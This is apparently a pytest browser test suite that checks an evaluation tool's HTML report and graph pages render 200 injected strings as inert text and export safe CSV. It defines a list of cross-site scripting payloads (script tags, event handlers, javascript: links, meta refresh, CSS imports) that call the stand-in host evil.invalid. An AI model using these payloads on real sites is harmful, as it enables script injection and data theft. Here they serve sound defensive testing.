"""Texts are data: two hundred payloads in every field of a result change nothing and reach nothing."""

import csv
import io
import json
from itertools import product
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest

from graph_eval.formats.writers import FORMULA_STARTS
from graph_eval.reports import render
from graph_eval.reports.page import write_report
from graph_eval.types import (
    Claim,
    Correction,
    Edit,
    Evidence,
    Example,
    ItemError,
    Judgement,
    Label,
    Link,
    Location,
    Match,
    Passage,
    Relation,
    Result,
    Revision,
    Scores,
    Slot,
    Span,
    Status,
)
from tests.browser.conftest import until

EVIL = "window.pwned=1;fetch('http://evil.invalid/')"
ELEMENTS = (
    f"<script>{EVIL}</script>",
    f"<img src=x onerror={EVIL!r}>",
    f"<svg onload={EVIL!r}></svg>",
    f"<svg><animate onbegin={EVIL!r} attributeName=x dur=1s></svg>",
    f"<iframe srcdoc='<script>parent.{EVIL}</script>'></iframe>",
    "<iframe src='http://evil.invalid/'></iframe>",
    f"<body onload={EVIL!r}>",
    f"<details open ontoggle={EVIL!r}>x</details>",
    f"<video><source onerror={EVIL!r}></video>",
    f"<input autofocus onfocus={EVIL!r}>",
    f'<a href="javascript:{EVIL}">x</a>',
    f"<form action='javascript:{EVIL}'><button>x</button></form>",
    "<link rel=stylesheet href='http://evil.invalid/x.css'>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<base href='http://evil.invalid/'>",
    "<style>@import 'http://evil.invalid/x.css'; *{background:url(http://evil.invalid/)}</style>",
    "<object data='http://evil.invalid/'></object>",
    "<embed src='http://evil.invalid/'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={EVIL!r}>",
    f"<template><script>{EVIL}</script></template>",
)
BREAKOUTS = (
    "",
    "</script>",
    "\"'>",
    "</style></title></textarea>",
    "--><!--",
    "]]>",
    "\\u003c/script\\u003e\u2028\u2029",
    "&lt;&#x3c;&quot;",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    "\x0b\ufeff\u202e\u0007",
)
PAYLOADS = ["".join(parts) for parts in product(BREAKOUTS, ELEMENTS)]


def loaded(n: int, payload: str, elsewhere: bool = False) -> Result:
    """A result with the payload wherever a result holds text. `elsewhere`: one claim of the context has no passage."""
    passage = Passage.of(f"{payload} is the context.", payload)
    example = Example(payload, payload, f"{payload} is said.", (passage,), payload, payload)
    span, rest = Span(0, len(payload)), Span(len(payload) + 1, len(payload) + 3)
    slots = (Slot(payload, (span,)), Slot("is", (rest,)), Slot(f"{payload}.", (), inferred=True))
    sentence = Span(0, len(example.response))
    claims = (Claim.triplet(example.key, slots, payload, sentence), Claim.whole(example.key, payload, sentence))
    locations = tuple(Location(part, Match.MISSING, (span,), (payload,)) for part in ("subject", "predicate", "object"))
    evidence = Evidence(passage.id, span, Scores(0.1, 0.2, 0.7), locations)
    error = ItemError("check", payload, payload, payload, payload)
    judgements = (
        Judgement(claims[0].id, Label.CONTRADICTION, 0.9, True, (evidence,), payload),
        Judgement.failed(claims[1].id, error),
    )
    stated = Claim.triplet(passage.id, slots, payload, Span(0, len(passage.text)))
    refuting = (stated, *([Claim.whole("another passage", payload, span)] if elsewhere else []))
    correction = Correction(claims[0].id, (Edit(span, payload, f"new {payload}"),), Status.APPLIED, payload, 0.9, 0.1)
    return Result(
        n,
        example,
        claims,
        judgements,
        Label.CONTRADICTION,
        0.9,
        Revision(f"new {payload} is said.", (correction,)),
        error if n % 2 else None,
        refuting,
        tuple(Link(claims[0].id, Relation.REFUTED_BY, claim.id) for claim in refuting),
    )


def test_there_are_two_hundred_different_payloads() -> None:
    assert len(set(PAYLOADS)) == 200


@pytest.fixture(scope="module")
def loaded_pages(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("loaded")
    results = [loaded(n, payload, elsewhere=True) for n, payload in enumerate(PAYLOADS)]
    title = "".join(PAYLOADS[20:23])
    return {view: render(results, folder / f"{view}.html", view, title) for view in ("report", "graph")}


def test_the_report_shows_them_as_text(watched, loaded_pages) -> None:
    page = watched.open(loaded_pages["report"])
    own = page.evaluate("document.querySelectorAll('*').length")
    for n, payload in enumerate(PAYLOADS):
        page.evaluate(f"choose(responses[{n}]); chooseClaim(state.order[0])")
        page.evaluate("tip.show({ clientX: 1, clientY: 1 }, tipLine(state.claim))")
        assert (
            page.evaluate("(({ title, textContent }) => title || textContent)(document.querySelector('#response h2'))")
            == payload
        )
        assert page.evaluate("document.querySelector('#text').textContent") == f"{payload} is said."
        assert payload in page.evaluate("document.querySelector('#context').textContent")
        assert page.evaluate("document.querySelector('.stated').textContent").count(payload) == 2
        assert f"new {payload}" in page.evaluate("document.querySelector('#revision').textContent")
    page.evaluate("layOut()")
    assert_inert(page, own)


def test_notes_and_filters_are_text(watched, loaded_pages) -> None:
    page = watched.open(loaded_pages["report"])
    own = page.evaluate("document.querySelectorAll('*').length")
    for n, payload in enumerate(PAYLOADS):
        page.evaluate("([n, note]) => setLabel(responses[n].claims[0], { note, label: 'Neutral' })", [n, payload])
        page.evaluate(f"choose(responses[{n}]); chooseClaim(state.order[0])")
        assert page.evaluate("document.querySelector('.person textarea').value") == as_typed(payload)
    for name in ("model", "dataset"):
        page.select_option(f"#{name}", index=7)
        until(page, f"location.hash.includes('{name}=')")
        page.reload()
        assert page.evaluate("state.shown.length") == 1
        page.click("#reset")
    page.evaluate("layOut()")
    assert_inert(page, own)
    with page.expect_download() as download:
        page.click("#save-labels")
    labels = [json.loads(line) for line in Path(download.value.path()).read_text("utf8").split("\n")[:-1]]
    assert {row["note"] for row in labels} == set(PAYLOADS)
    assert {row["claim"] for row in labels} == set(PAYLOADS)
    with page.expect_download() as download:
        page.click("#save-table")
    rows = list(csv.reader(io.StringIO(Path(download.value.path()).read_text("utf-8-sig"), newline="")))
    assert {row[-1] for row in rows[1:]} == {"", *PAYLOADS}
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def as_typed(note: str) -> str:
    """A text field holds line feeds for every line break."""
    return note.replace("\r\n", "\n").replace("\r", "\n")


def test_no_name_of_a_drawing_leads_elsewhere(watched, tmp_path: Path) -> None:
    results = [loaded(0, PAYLOADS[0])]
    for n, name in enumerate((f"javascript:{EVIL}", "//evil.invalid/x.html", "http://evil.invalid/", *PAYLOADS[::9])):
        write_report(results, tmp_path / f"{n}.html", name, drawing=name)
        page = watched.open(tmp_path / f"{n}.html")
        links = page.locator("a").evaluate_all("(nodes) => nodes.map((node) => node.href)")
        assert len(links) == 2
        for link in links:
            found = urlsplit(link)
            assert (found.scheme, found.netloc, found.query) == ("file", "", "")
            assert unquote(found.path).startswith(f"{tmp_path}/")
        assert page.evaluate("window.pwned") is None


def test_the_drawing_shows_them_as_text(watched, loaded_pages) -> None:
    page = watched.open(loaded_pages["graph"])
    own = page.evaluate("document.querySelectorAll('*').length")
    for n, payload in enumerate(PAYLOADS):
        page.evaluate(
            f"go({{ kind: 'response', response: responses[{n}] }}); choose({{ claim: responses[{n}].claims[0] }})"
        )
        page.evaluate("tip.show({ clientX: 1, clientY: 1 }, ...claimCard(state.claim, true))")
        assert payload in page.evaluate("document.querySelector('#card').textContent")
        page.evaluate(f"byId('search').value = responses[{n}].id.slice(0, 20); search(); closeSearch()")
        page.evaluate("choose({ node: nodes[state.view.response.claims.find((claim) => claim.ends.length).ends[0]] })")
    for tab in page.locator("#tabs button").all():
        tab.click()
        page.wait_for_timeout(200)
    assert_inert(page, own)


def assert_inert(page: object, elements: int) -> None:
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    for tag in ("iframe", "img", "object", "embed", "base", "video", "form[action]", "a", "[onerror]", "[onload]"):
        assert page.locator(tag).count() == 0, tag
    assert page.locator("script").count() <= 5
    assert page.locator("link").count() == 1
    assert elements > 20
